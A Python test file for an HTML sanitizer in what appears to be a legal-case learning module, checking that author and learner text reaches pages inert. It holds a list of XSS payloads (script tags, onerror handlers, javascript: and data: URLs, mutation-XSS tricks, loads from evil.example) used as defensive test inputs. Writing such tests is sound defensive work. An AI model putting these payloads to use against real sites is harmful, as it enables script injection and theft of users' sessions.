"""What authors write reaches pages inert: nothing in it runs, loads from elsewhere unasked or breaks out."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html

from block_pages.markup import clean
from tests.legal_case.block_cases import Player
from tests.runtimes import Library, Lms, PlatformRuntime, StudioPreview

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x" target="_top" onclick="x()">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<iframe src="//evil.example" srcdoc="<script>1</script>"></iframe>',
    '<form action="//evil.example"><input name="q"><button formaction="//evil.example">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<video src="//evil.example" onerror=alert(1)></video><audio src=x autoplay></audio>',
    "<details open ontoggle=alert(1)>x</details>",
    '<p id="problem" name="x" data-act="restart">x</p>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p title='</script><img src=x onerror=alert(1)>'>x</p>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</div></section></section></body><h1>x",
    "<plaintext>x",
    "<a href='https://ok.example' rel='opener'>x</a>",
    "<xss-element onclick=1>x</xss-element>",
)
ALLOWED = {
    "p", "br", "hr", "ul", "ol", "li", "dl", "dt", "dd", "strong", "b", "em", "i", "u", "s", "sub", "sup", "small",
    "blockquote", "q", "cite", "code", "pre", "abbr", "time", "h3", "h4", "h5", "h6", "a", "img", "figure",
    "figcaption", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "div", "span",
}  # fmt: skip


def assert_inert(fragment: str) -> None:
    """Look at a piece of HTML as a browser would: known tags, no handlers, harmless addresses."""
    for node in html.fragment_fromstring(fragment, create_parent="div").iterdescendants():
        assert node.tag in ALLOWED, fragment
        for name, value in node.items():
            assert not name.startswith(("on", "data-")), fragment
            assert name not in ("style", "id", "name", "target", "srcdoc", "action", "formaction"), fragment
            if name in ("href", "src"):
                scheme = value.partition(":")[0].strip().lower() if ":" in value.partition("/")[0] else ""
                assert scheme in ("", "http", "https", "mailto", "tel"), fragment
        if node.tag == "a" and node.get("href"):
            assert node.get("rel") == "noopener noreferrer"


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_html_comes_out_inert(source: str) -> None:
    assert_inert(clean(source))
    assert_inert(clean(f"<table><tr><td>{source}"))
    assert clean(clean(source)) == clean(source)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from([*HOSTILE, "<", ">", "</", '"', "'", "<!--", "]]>", "x", "<p", " onclick="]), max_size=6)
)
def test_pieces_of_hostile_html_come_out_inert(pieces: list[str]) -> None:
    assert_inert(clean("".join(pieces)))


@pytest.mark.parametrize(
    "kept",
    [
        '<p class="note" lang="pl">Żółć <strong>1</strong> &lt; 2 &amp; 3</p>',
        '<ol start="3"><li>a</li></ol>',
        '<table><thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
        '<figure><img src="/static/a.png" alt="A scan"><figcaption>x</figcaption></figure>',
        '<a href="/static/a.pdf" rel="noopener noreferrer">a</a>',
        '<a href="mailto:a@example.org" rel="noopener noreferrer">a</a>',
        '<time datetime="2026-11-12">12 listopada</time>',
        "art. 129 § 2 k.p.a. „x” — 𝔛",
    ],
)
def test_what_authors_need_is_kept(kept: str) -> None:
    assert clean(kept) == kept


PLACES = ("text", "label", "consequence", "expert", "title", "client", "document", "law")


def hostile_case(source: str) -> str:
    """A case that holds the same hostile text wherever an author may write."""
    prose = f"<![CDATA[{source}]]>"
    named = source.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return f"""<legal_case schema="1" first="a">
  <client name="{named}" status="{named}">{prose}</client><calendar today="2026-11-02"/>
  <counter id="c" title="{named}"/><law id="l" title="{named}" as-of="2026-11-22"/><law id="k" title="x{named}"/>
  <document id="d" title="{named}" key="true"><text>{prose}</text><expert>{prose}</expert></document>
  <deadline id="t" title="{named}" from="2026-11-02" days="9"/>
  <step id="a" type="decision" title="{named}" law="l"><text>{prose}</text><expert>{prose}</expert>
    <option id="o" goto="e" points="1" law="l"><label>{prose}</label><consequence>{prose}</consequence>
      <expert>{prose}</expert></option>
    <option id="p" goto="e" requires="c &gt; 5" locked="show"><label>{prose}</label></option></step>
  <step id="e" type="evidence" title="{named}" pick="1" goto="b"><text>{prose}</text><want doc="d"/></step>
  <step id="b" type="basis" title="{named}" pick="1" goto="r"><want law="l" points="1"/><decoy law="k"/></step>
  <step id="r" type="reflect" title="{named}" goto="z"><consequence>{prose}</consequence></step>
  <step id="z" type="ending" title="{named}"><text>{prose}</text></step>
</legal_case>"""


def assert_page_inert(page: str) -> None:
    tree = html.fragment_fromstring(page, create_parent="div")
    own = {"application/json", "json/xblock-args", "application/javascript", "text/javascript"}
    for node in tree.iter("script"):
        assert node.get("type") in own
    for node in tree.iter():
        assert not [name for name in node.keys() if name.startswith("on")], page  # noqa: SIM118
        assert "evil.example" not in str(node.get("action")) + str(node.get("data"))
        assert not str(node.get("href")).strip().lower().startswith(("javascript", "data", "vbscript"))
        assert not str(node.get("src")).strip().lower().startswith(("javascript", "data"))
    for tag in ("iframe", "object", "embed", "meta", "base", "link", "style", "math", "video", "template"):
        assert not list(tree.iter(tag)), tag


def htmls(reply: Any, name: str = "") -> list[str]:
    """Every text of a reply that a page parses as HTML."""
    if isinstance(reply, dict):
        return [found for key, value in reply.items() for found in htmls(value, key)]
    if isinstance(reply, list):
        return [found for value in reply for found in htmls(value, name)]
    return [reply] if name in ("html", "yours", "best", "expert", "consequence") and isinstance(reply, str) else []


@pytest.mark.parametrize("runtime", [Lms, Library, StudioPreview])
def test_hostile_authors_reach_no_learner(runtime: type[PlatformRuntime]) -> None:
    for source in HOSTILE:
        player = Player.at(runtime(), hostile_case(source), display_name=source, debrief="each")
        replies: list[Any] = [player.view]
        assert_page_inert(player.runtime.page(player.block))
        token = player.view["documents"][0]["token"]
        replies.append(player.post("read", document=token).json)
        while not player.view["finished"]:
            step = player.view["step"]
            tokens = [option["token"] for option in step["options"]][:1]
            given_answer: dict[str, Any] = {
                "decision": {"choice": tokens[0] if tokens else ""}, "reflect": {"text": source}
            }.get(step["type"], {"picks": tokens})  # fmt: skip
            reply = player.post("answer", attempt=1, at=player.view["at"], step=step["token"], **given_answer)
            assert reply.status == 200
            replies.append(reply.json)
            assert_page_inert(player.runtime.page(player.block))
        replies.append(player.post("look_back").json)
        for fragment in htmls(replies):
            assert_inert(fragment)


def test_titles_are_texts_wherever_they_stand() -> None:
    """A provision “<5 % & more” is the same words among the options and in the debrief."""
    source = hostile_case("x").replace('<law id="l" title="x"', '<law id="l" title="&lt;b&gt;5 % &amp;amp; more"')
    player = Player.at(Lms(), source, debrief="each")
    for words in ("x", ("x",)):
        player.answer(words)
    shown = player.view["step"]["options"][0]["html"]
    assert html.fragment_fromstring(shown, create_parent="p").text_content() == "<b>5 % &amp; more"


def test_a_learners_note_is_shown_as_it_was_written() -> None:
    note = "<img src=x onerror=alert(1)> & „x” </script>"
    player = Player.at(Lms(), debrief="each")
    player.play(("Look at", "2026-11-12", ("refusal", "envelope"), ("129",), note, "The appeal"))
    row = next(row for row in player.post("look_back").json["debrief"]["rows"] if row["title"] == "A note")
    assert_inert(row["yours"])
    assert html.fragment_fromstring(row["yours"], create_parent="p").text_content() == note
    assert_page_inert(player.runtime.page(player.block))


PICTURES = [
    ("/static/plan.png", True),
    ("/asset-v1:A+B+C+type@asset+block/plan.png", True),
    ("https://elsewhere.example/p.gif", False),
    ("//elsewhere.example/p.gif", False),
    ("/\\elsewhere.example/p.gif", False),
    ("\\\\elsewhere.example\\p.gif", False),
    ("data:image/gif;base64,R0lGOD", False),
]


@pytest.mark.parametrize(("address", "kept"), PICTURES)
def test_pictures_come_from_the_site_itself(address: str, kept: bool) -> None:
    assert (address in clean(f'<img src="{address}" alt="A plan">')) is kept
    assert 'alt="A plan"' in clean(f'<img src="{address}" alt="A plan">')
